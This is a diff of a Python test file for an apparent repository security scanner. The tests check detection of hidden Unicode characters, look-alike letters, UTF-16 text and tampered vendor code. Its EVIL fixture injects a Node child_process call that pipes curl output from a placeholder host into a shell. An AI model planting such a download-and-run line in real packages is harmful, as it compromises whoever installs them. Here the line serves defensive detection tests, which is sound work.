@@ -22,6 +22,7 @@ from tests.targets.repositories import Git
 NOW = datetime(2026, 11, 29, 12, 0, tzinfo=UTC)
 TINY = '"use strict";\nmodule.exports = function tiny(text) {\n  return String(text).trim();\n};\n'
 EVIL = TINY.replace("  return", '  require("child_process").exec("curl -s https://collect.invalid/s | sh");\n  return')
+Files = dict[str, str | bytes | None]
 Look = Callable[..., Report]
 
 
@@ -51,10 +52,13 @@ def git(tmp_path: Path) -> Git:
 def look(intel: Path, tmp_path: Path) -> Look:
     environ = {**os.environ, "XDG_CACHE_HOME": str(tmp_path / "cache")}
 
-    def run(git: Git, before: dict[str, str | None], after: dict[str, str | None], deep: Deep | None = None) -> Report:
+    def run(git: Git, before: Files, after: Files, deep: Deep | None = None, *, lost: tuple[str, ...] = ()) -> Report:
         git.commit_files("before", {"README": "x", **before})
         git("checkout", "--quiet", "-b", "change")
         git.commit_files("after", {**after})
+        for path in lost:
+            blob = git("rev-parse", f"HEAD:{path}")
+            (git.root / ".git/objects" / blob[:2] / blob[2:]).unlink()
         settings = Settings(intel_directory=intel, now=lambda: NOW, environ=environ, home=tmp_path / "nowhere")
         return scan_base(git.root, "main", settings, deep=deep)
 
@@ -125,6 +129,41 @@ def test_text_that_hides_something_is_told_wherever_it_lies(git: Git, look: Look
     hidden = "".join(chr(0xE0100 + number) for number in range(40))
     report = look(git, {"src/app.js": TINY}, {"src/app.js": f"{TINY}const x = `{hidden}`;\n"})
     assert told(report) == [("suspicious-change", "high", "this repository")]
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["const p\u0430ssword = 1;\n", f"/* {'x' * 5_000_000} */\nconst x = `{chr(0xE0100) * 40}`;\n"],
+    ids=["a look-alike letter", "in a file of five megabytes"],
+)
+def test_it_is_told_in_every_alphabet_and_size(git: Git, look: Look, text: str) -> None:
+    report = look(git, {"src/app.js": TINY}, {"src/app.js": TINY + text})
+    assert told(report) == [("suspicious-change", "high", "this repository")]
+
+
+def test_text_in_utf_16_hides_nothing(git: Git, look: Look) -> None:
+    hidden = f"{TINY}const x = `{chr(0xE0100) * 40}`;\n".encode("utf-16")
+    report = look(git, {"src/app.js": TINY}, {"src/app.js": hidden})
+    assert told(report) == [("suspicious-change", "high", "this repository")]
+
+
+def test_a_side_that_cannot_be_read_is_a_loss(git: Git, look: Look) -> None:
+    git.commit_files("start", {"README": "x"})
+    (git.root / "link").symlink_to("a" * 200)
+    git("add", "--all")
+    git("commit", "--quiet", "--message", "a link")
+    report = look(git, {}, {"vendor/tiny/index.js": EVIL}, lost=("link",))
+    assert any("was not judged" in one.what for one in report.coverage.problems if not one.harmless)
+    assert report.exit_code == 3
+
+
+def test_a_partial_clone_judges_what_is_here(git: Git, look: Look) -> None:
+    git.commit_files("start", {"elsewhere.bin": "left on the server"})
+    git("config", "remote.origin.promisor", "true")
+    git("config", "extensions.partialClone", "origin")
+    place = {"vendor/tiny/package.json": manifest(), "vendor/tiny/index.js": TINY}
+    report = look(git, place, {"vendor/tiny/index.js": EVIL}, lost=("elsewhere.bin",))
+    assert told(report) == [("integrity", "critical", "vendor/tiny")]
 
 
 def test_a_file_that_moves_brings_nothing(git: Git, look: Look) -> None:
